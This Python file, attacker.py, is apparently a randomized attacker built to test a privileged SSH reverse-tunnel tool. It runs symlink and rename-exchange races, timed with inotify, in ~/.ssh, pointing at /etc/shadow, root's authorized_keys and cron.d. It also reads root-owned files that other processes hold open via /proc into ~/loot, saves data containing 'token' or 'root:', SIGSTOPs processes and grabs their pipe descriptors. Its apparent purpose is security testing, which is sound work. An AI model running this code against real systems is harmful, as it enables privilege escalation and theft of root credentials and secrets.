"""
What an account may do against whatever works below its home, as fast as it can: it exchanges folders, files and links
for others at any moment, also right after somebody has looked, shuts folders, stops processes of its own, and looks at
what those have open. `attacker.py SEED MODE…` goes on until it is ended.

What it reads that way, and what it finds open, it puts in ~/loot, a file for each; each process that it stops, in
~/stopped. It works with names in ~/evil.
"""

import ctypes
import os
import random
import shutil
import signal
import stat
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
HOME = os.path.expanduser("~")
SSH = HOME + "/.ssh"
FOLDER = SSH + "/ssh-reverse-tunnel"
EVIL = HOME + "/evil"
LOOT = HOME + "/loot"

rng = random.Random(int(sys.argv[1]))
modes = sys.argv[2:]

NAMES = ["nas.key", "nas.key.pub", "nas.key.new", "nas.key.new.pub", "nas.conf", "nas.known_hosts"]
OURS = [FOLDER + "/" + name for name in NAMES] + [SSH + "/config", SSH + "/authorized_keys"]
FILES = OURS + [os.path.dirname(path) + "/." + os.path.basename(path) + ".ssh-reverse-tunnel" for path in OURS]
FOLDERS = [SSH, FOLDER]

# All that the scripts read, write or remove below ours is in /root/closed under the same names, and the second part of
# "ssh-reverse-tunnel" in /var/lib is the records.
FOLDER_TARGETS = ["/root/closed"] * 6 + [
    "/etc",
    "/etc/ssh",
    "/etc/ssh/ssh_config.d",
    "/etc/sudoers.d",
    "/root",
    "/usr/local/bin",
    "/usr/local/lib",
    "/var/lib",
    "/var/lib",
    "/var/lib",
    "/var/lib/ssh-reverse-tunnel",
    "/home/bob",
    "/home/bob/.ssh",
]
FILE_TARGETS = [
    "/etc/shadow",
    "/etc/passwd",
    "/etc/cron.d/evil",
    "/root/secret",
    "/root/.ssh/authorized_keys",
    "/root/closed/config",
    "/root/host_key",
    "/home/bob/.ssh/config",
    "/home/bob/secret",
]


def exchange(a, b):
    """RENAME_EXCHANGE"""
    if LIBC.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:
        raise OSError(ctypes.get_errno(), "renameat2", a)


def there(path):
    return os.path.lexists(path)


def remove(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            os.chmod(path, 0o700)
            shutil.rmtree(path, ignore_errors=True)
        else:
            os.unlink(path)
    except OSError:
        pass


def pause(most):
    """Seconds. Most races are won within a fraction of a millisecond, and some need a process to start."""
    seconds = rng.random() * most
    end = time.perf_counter() + seconds
    if seconds > 0.0005:
        time.sleep(seconds)
    while time.perf_counter() < end:
        pass


def evil(path):
    """Makes something to put in the place of this path; returns its name."""
    new = EVIL + "/" + str(rng.randrange(10**9))
    if path == theme[0] and rng.random() < 0.9:
        os.symlink(theme[1], new)
        return new
    if path in FOLDERS:
        kind = rng.choice(["link", "link", "link", "folder", "file"])
        if kind == "link":
            os.symlink(rng.choice(FOLDER_TARGETS), new)
        elif kind == "file":
            open(new, "w").close()
        else:
            os.mkdir(new, 0o700)
            below = new
            if path == SSH:
                below = new + "/ssh-reverse-tunnel"
                if rng.random() < 0.5:
                    os.symlink(rng.choice(FOLDER_TARGETS), below)
                    return new
                os.mkdir(below)
                os.symlink(rng.choice(FILE_TARGETS), new + "/config")
                os.symlink(rng.choice(FILE_TARGETS), new + "/authorized_keys")
            for name in NAMES:
                os.symlink(rng.choice(FILE_TARGETS), below + "/" + name)
        return new
    kind = rng.choice(["link"] * 6 + ["fifo", "folder", "hard link", "own link", "folder link"])
    if kind == "link":
        os.symlink(rng.choice(FILE_TARGETS), new)
    elif kind == "fifo":
        os.mkfifo(new, 0o600)
    elif kind == "folder":
        os.mkdir(new, 0o700)
    elif kind == "hard link":
        with open(HOME + "/mine", "w") as mine:
            mine.write("mine\n")
        os.link(HOME + "/mine", new)
    elif kind == "own link":
        os.symlink(HOME + "/other", new)
    else:
        os.symlink(rng.choice(FOLDER_TARGETS), new)
    return new


class Swapped:
    """Something evil in the place of a path, until `back`."""

    def __init__(self, path):
        self.path, self.evil, self.other = path, evil(path), there(path)
        self.inside = False
        self.turn()

    def turn(self):
        self.inside = not self.inside
        if self.other:
            exchange(self.path, self.evil)
        elif self.inside:
            os.rename(self.evil, self.path)
        else:
            os.rename(self.path, self.evil)

    def back(self):
        try:
            if self.inside:
                self.turn()
        finally:
            remove(self.evil)


# What pays where a step is taken as root.
THEMES = [
    (SSH, "/var/lib"),
    (SSH, "/root/closed"),
    (FOLDER, "/root/closed"),
    (FOLDER, "/etc/ssh/ssh_config.d"),
    (SSH + "/config", "/root/secret"),
    (SSH + "/authorized_keys", "/root/secret"),
]
theme = (None, None)
theme_until = 0.0


def a_path():
    """Sticks to a path for a while: most holes open at one moment of a script only."""
    global theme, theme_until
    if time.time() > theme_until:
        theme = (None, None) if rng.random() < 0.3 else rng.choice(THEMES)
        theme_until = time.time() + rng.random() * 6
    if theme[0] is not None:
        return theme[0]
    return rng.choice(FOLDERS) if rng.random() < 0.4 else rng.choice(FILES)


def flicker():
    """What is there for a moment only lets the other steps succeed."""
    swapped = Swapped(a_path())
    evil_seconds = rng.choice([0.0005, 0.002, 0.006, 0.02])
    good_seconds = evil_seconds * rng.choice([1, 3, 10])
    end = time.perf_counter() + rng.random()
    while time.perf_counter() < end:
        pause(evil_seconds if swapped.inside else good_seconds)
        swapped.turn()
        if not swapped.inside:
            keep()
    swapped.back()


def leave():
    swapped = Swapped(a_path())
    time.sleep(rng.random() * 0.6)
    swapped.back()


kept = set()


def keep():
    """Keeps what has come into our files before it goes again."""
    for path in FILES:
        try:
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            data = os.read(handle, 1 << 16)
            os.close(handle)
        except OSError:
            continue
        if (b"token" in data or b"root:" in data) and data not in kept:
            kept.add(data)
            with open(EVIL + "/kept" + str(len(kept)) + "." + str(os.getpid()), "wb") as file:
                file.write(data)


class Watch:
    """inotify(7) of our folders."""

    EVENTS = 0x2 | 0x4 | 0x8 | 0x10 | 0x20 | 0x40 | 0x80 | 0x100 | 0x200  # modify … delete

    def __init__(self):
        self.fd = LIBC.inotify_init1(os.O_NONBLOCK)
        self.folders = {}
        for folder in FOLDERS:
            number = LIBC.inotify_add_watch(self.fd, folder.encode(), self.EVENTS)
            if number >= 0:
                self.folders[number] = folder

    def next(self, seconds):
        """The path of the next event."""
        end = time.perf_counter() + seconds
        while time.perf_counter() < end:
            try:
                data = os.read(self.fd, 4096)
            except BlockingIOError:
                time.sleep(0.00005)
                continue
            number, _, _, length = struct.unpack_from("iIII", data)
            name = data[16 : 16 + length].rstrip(b"\0").decode(errors="replace")
            if number in self.folders:
                return self.folders[number] + ("/" + name if name else "")
        return None

    def drain(self):
        """What we did ourselves is no event."""
        try:
            while os.read(self.fd, 65536):
                pass
        except BlockingIOError:
            pass

    def close(self):
        os.close(self.fd)


def precise():
    """Waits for somebody to look at a file, and exchanges it, or its folder, before the next look."""
    if rng.random() < 0.5:
        edit()
    watch = Watch()
    chance = rng.choice([0.05, 0.15, 0.4])
    end = time.perf_counter() + 1
    try:
        while time.perf_counter() < end:
            path = watch.next(0.2)
            if path is None or rng.random() > chance:
                continue
            # What is written beside a file is of the file: whoever reads it to write it reads it at such a moment.
            if path.endswith(".ssh-reverse-tunnel") and rng.random() < 0.5:
                path = OURS[FILES.index(path) - len(OURS)] if path in FILES else path
            if rng.random() < 0.5:
                path = a_path()
            elif path not in FILES:
                path = rng.choice(FOLDERS)
            swapped = Swapped(path)
            watch.drain()
            for _ in range(rng.choice([0, 0, 1, 2, 3])):
                watch.next(0.03)
            pause(rng.choice([0.0003, 0.003, 0.01]))
            swapped.back()
            keep()
            watch.drain()
    finally:
        watch.close()


def shut():
    folder = rng.choice(FOLDERS)
    os.chmod(folder, rng.choice([0, 0o500, 0o777, 0o1777]))
    time.sleep(rng.random() * 0.2)
    os.chmod(folder, 0o700)


def edit():
    """Makes the scripts write."""
    path = rng.choice(OURS)
    kind = rng.random()
    if kind < 0.3:
        os.unlink(path)
    elif kind < 0.5:
        os.truncate(path, rng.randrange(0, 200))
    elif kind < 0.6:
        os.chmod(path, rng.choice([0, 0o400, 0o666]))
    else:
        with open(path) as file:
            lines = file.read().split("\n")
        lines = [line for line in lines if "reverse-tunnel" not in line]
        lines.insert(rng.randrange(len(lines) + 1), "# " + str(rng.random()))
        with open(path, "w") as file:
            file.write("\n".join(lines))


def tidy():
    """What is in the scripts' way for good lets them do nothing that could be attacked."""
    for folder in FOLDERS:
        if os.path.islink(folder) or not os.path.isdir(folder):
            remove(folder)
        elif stat.S_IMODE(os.stat(folder).st_mode) != 0o700:
            os.chmod(folder, 0o700)
    for path in FILES:
        if there(path) and (os.path.islink(path) or not os.path.isfile(path)):
            remove(path)
    os.makedirs(SSH, 0o700, exist_ok=True)
    for path in (SSH + "/config", SSH + "/authorized_keys"):
        if not there(path):
            with open(path, "w") as file:
                file.write("# mine\n")


def others():
    """Processes of this account that are not ours: what the scripts do as it."""
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and int(name) != os.getpid() and os.stat("/proc/" + name).st_uid == os.getuid():
                yield int(name)
        except OSError:
            pass


stopped_at = 0.0


def stop():
    global stopped_at
    if time.time() - stopped_at < 10:
        return
    end = time.perf_counter() + 0.5
    while time.perf_counter() < end:
        for pid in others():
            stopped_at = time.time()
            with open(HOME + "/stopped", "a") as file:
                file.write(str(pid) + "\n")
            os.kill(pid, signal.SIGSTOP)
            return


def look():
    """Reads whatever of root's these processes have open; programs and libraries are everybody's."""
    end = time.perf_counter() + 0.3
    while time.perf_counter() < end:
        for pid in others():
            try:
                for number in os.listdir("/proc/%d/fd" % pid):
                    target = os.readlink("/proc/%d/fd/%s" % (pid, number))
                    if target.startswith((HOME, "/usr/", "/opt/", "/dev/", "/proc/", "pipe:", "socket:", "anon_inode:")):
                        continue
                    # What it can read by its name, too, tells nothing; a folder can be locked.
                    if os.path.isfile(target) and os.access(target, os.R_OK):
                        continue
                    loot = LOOT + "/" + target.replace("/", "_")
                    if not os.path.exists(loot):
                        handle = os.open("/proc/%d/fd/%s" % (pid, number), os.O_RDONLY | os.O_NONBLOCK)
                        with open(loot, "wb") as file:
                            file.write(target.encode() + b"\n" + os.read(handle, 1 << 20))
                        os.close(handle)
            except OSError:
                pass


held = []


def hold():
    """
    Keeps the ends of pipes that these processes write to, in a process that outlives them: pidfd_getfd(2). Whoever
    waits for all of them to be closed waits for us.
    """
    for pid in others():
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        for number in (1, 2):
            got = LIBC.syscall(438, pidfd, number, 0)
            if got >= 0 and os.readlink("/proc/self/fd/%d" % got).startswith("pipe:") and len(held) < 200:
                held.append(got)
            elif got >= 0:
                os.close(got)
        os.close(pidfd)


ACTIONS = {
    "swap": [flicker] * 5 + [leave, shut, look] + [precise] * 6 + [edit, edit, tidy, tidy],
    "stop": [stop],
    "hold": [hold],
}

if __name__ == "__main__":
    for folder in (EVIL, LOOT):
        os.makedirs(folder, exist_ok=True)
    try:
        tidy()
    except OSError:
        pass
    actions = [action for mode in modes for action in ACTIONS[mode]]
    while True:
        try:
            rng.choice(actions)()
        except (OSError, UnicodeError):
            pass
